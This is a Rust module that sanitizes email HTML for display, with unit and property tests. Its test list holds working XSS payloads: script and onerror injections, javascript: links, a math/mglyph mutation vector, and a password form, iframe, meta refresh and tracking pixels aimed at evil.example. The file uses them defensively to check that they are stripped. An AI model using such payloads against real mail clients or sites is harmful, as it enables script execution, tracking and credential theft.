//! The HTML of a message, made safe to be shown: nothing in it runs, is sent or is fetched.

mod bounds;

use std::{
    borrow::Cow,
    collections::HashMap,
    sync::{
        Arc,
        atomic::{AtomicU32, AtomicUsize, Ordering},
    },
};

use ammonia::{Builder, UrlRelative};

/// So many bytes of pictures are put into the HTML, as `data:` addresses.
const PICTURES: usize = 32 << 20;

/// What is left of a message's HTML.
pub struct Sanitized {
    pub html: String,
    /// What would have been fetched from elsewhere.
    pub remote: u32,
    /// The rest would have taken too much memory or time.
    pub cut: bool,
}

/// Keeps text, tables, colours and links; pictures only where they lie in the message itself, by `inline`: their
/// Content-ID and the `data:` address to be shown instead.
pub fn sanitize(html: &str, inline: HashMap<String, String>) -> Sanitized {
    let (source, html) = (html, bounds::bounded(html));
    let remote = Arc::new(AtomicU32::new(0));
    let seen = Arc::clone(&remote);
    let used = AtomicUsize::new(0);
    let mut builder = Builder::default();
    builder
        .url_schemes(["http", "https", "mailto", "tel", "cid", "data"].into())
        .url_relative(UrlRelative::PassThrough)
        // Without it a click would open the sender's page in this very frame.
        .set_tag_attribute_value("a", "target", "_blank")
        .link_rel(Some("noopener noreferrer"))
        .add_tags(["font", "center"])
        .rm_tags(["area", "map", "audio", "video", "source", "track"])
        .add_tag_attributes("font", ["color", "size"])
        .add_tag_attributes("img", ["width", "height", "alt", "border"])
        .add_tag_attributes("a", ["href", "title", "target"])
        .add_generic_attributes([
            "align",
            "valign",
            "bgcolor",
            "width",
            "height",
            "dir",
            "cellpadding",
            "cellspacing",
        ])
        .attribute_filter(move |element, attribute, value| match (element, attribute) {
            ("img", "src") => {
                let shown = picture(value, &inline);
                let bytes = shown.map_or(0, str::len);
                let fits = |used: usize| used.checked_add(bytes).filter(|used| *used <= PICTURES);
                // The same picture again and again would fill the memory.
                let shown =
                    shown.filter(|_| used.fetch_update(Ordering::Relaxed, Ordering::Relaxed, fits).is_ok());
                if shown.is_none() && is_elsewhere(value) {
                    seen.fetch_add(1, Ordering::Relaxed);
                }
                shown.map(|shown| Cow::Owned(shown.to_owned()))
            }
            ("a", "href") => has_scheme(value, &["http", "https", "mailto", "tel"]).then_some(value.into()),
            // Nothing else leads anywhere.
            (_, "src" | "href" | "cite" | "srcset" | "background" | "poster" | "longdesc" | "usemap") => None,
            _ => Some(value.into()),
        });
    let clean = builder.clean(html).to_string();
    let remote = remote.load(Ordering::Relaxed).saturating_add(backgrounds(html));
    Sanitized { html: clean, remote, cut: html.len() < source.len() }
}

/// The `data:` address of a picture in the message.
fn picture<'a>(source: &'a str, inline: &'a HashMap<String, String>) -> Option<&'a str> {
    if let Some(id) = strip_scheme(source, "cid") {
        return inline.get(id).map(String::as_str);
    }
    let data = strip_scheme(source, "data")?;
    // An SVG is a document of its own.
    let harmless = ["image/png", "image/jpeg", "image/gif", "image/webp"];
    let is_picture = harmless
        .iter()
        .any(|kind| data.get(..kind.len()).is_some_and(|start| start.eq_ignore_ascii_case(kind)));
    is_picture.then_some(source)
}

/// Counted in the source, since the sanitizer drops such attributes before it asks.
fn backgrounds(html: &str) -> u32 {
    let lower = html.to_ascii_lowercase();
    let count = [
        "background=http",
        "background=\"http",
        "background='http",
        "url(http",
        "url('http",
        "url(\"http",
        "srcset=\"http",
    ]
    .iter()
    .map(|text| lower.matches(text).count())
    .sum::<usize>();
    u32::try_from(count).unwrap_or(u32::MAX)
}

fn is_elsewhere(address: &str) -> bool {
    let address = address.trim_start();
    has_scheme(address, &["http", "https", "ftp"]) || address.starts_with("//")
}

fn has_scheme(address: &str, schemes: &[&str]) -> bool {
    schemes.iter().any(|scheme| strip_scheme(address, scheme).is_some())
}

fn strip_scheme<'a>(address: &'a str, scheme: &str) -> Option<&'a str> {
    let (found, rest) = address.trim_start().split_once(':')?;
    found.eq_ignore_ascii_case(scheme).then_some(rest)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn clean(html: &str) -> Sanitized {
        sanitize(html, HashMap::from([("logo@x".to_owned(), "data:image/png;base64,AAAA".to_owned())]))
    }

    #[test]
    fn nothing_runs_is_sent_or_is_fetched() {
        let hostile = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://track.example/p.gif\" srcset=\"https://track.example/q.gif 2x\">",
            "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">",
            "<link rel=stylesheet href=\"https://evil.example/a.css\"><style>@import url(https://evil.example)</style>",
            "<div style=\"background:url(https://evil.example/a.png);position:fixed\">x</div>",
            "<table background=\"https://evil.example/b.png\"><tr><td>x</td></tr></table>",
            "<a href=\"javascript:alert(1)\">x</a><a href=\" java\nscript:alert(1)\">y</a>",
            "<svg><script>alert(1)</script><image href=\"https://evil.example\"/></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<base href=\"https://evil.example\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<video src=\"https://evil.example\" poster=\"https://evil.example\"></video>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src=\"//evil.example/x.png\">",
            "<blockquote cite=\"https://evil.example\">x</blockquote><body background=\"https://evil.example\">",
        ];
        for html in hostile {
            let clean = clean(html).html.to_ascii_lowercase();
            for bad in [
                "script",
                "onerror",
                "evil.example",
                "track.example",
                "<form",
                "<input",
                "<button",
                "<iframe",
                "style",
                "svg",
                "<meta",
                "<base",
                "<link",
                "position",
            ] {
                assert!(!clean.contains(bad), "{bad} in {clean}, of {html}");
            }
        }
    }

    #[test]
    fn what_a_letter_is_made_of_stays_and_what_is_elsewhere_is_counted() {
        let found = clean(
            "<p align=center>Hello <b>Anna</b>, <a href=\"https://example.org/a?b=1\">here</a>\
             <img src=\"cid:logo@x\" alt=Logo><img src=\"https://a.example/1.gif\"><img src=\"//a.example/2.gif\">\
             <table bgcolor=red background=\"https://a.example/3.gif\"><tr><td>1</td></tr></table>",
        );
        assert_eq!(found.remote, 3);
        for kept in [
            "<b>Anna</b>",
            "https://example.org/a?b=1",
            "target=\"_blank\"",
            "data:image/png;base64,AAAA",
            "<td>1</td>",
        ] {
            assert!(found.html.contains(kept), "{kept} in {}", found.html);
        }
    }

    proptest! {
        #[test]
        fn no_text_makes_it_fail_and_cleaning_twice_changes_nothing(html in "(<[a-z]{1,6}( [a-z]{1,6}=\"?[a-z:/.#]{0,12}\"?)?>|</[a-z]{1,5}>|[a-z &;<>\"']{0,9}){0,24}") {
            let once = clean(&html).html;
            prop_assert_eq!(&clean(&once).html, &once);
        }
    }
}
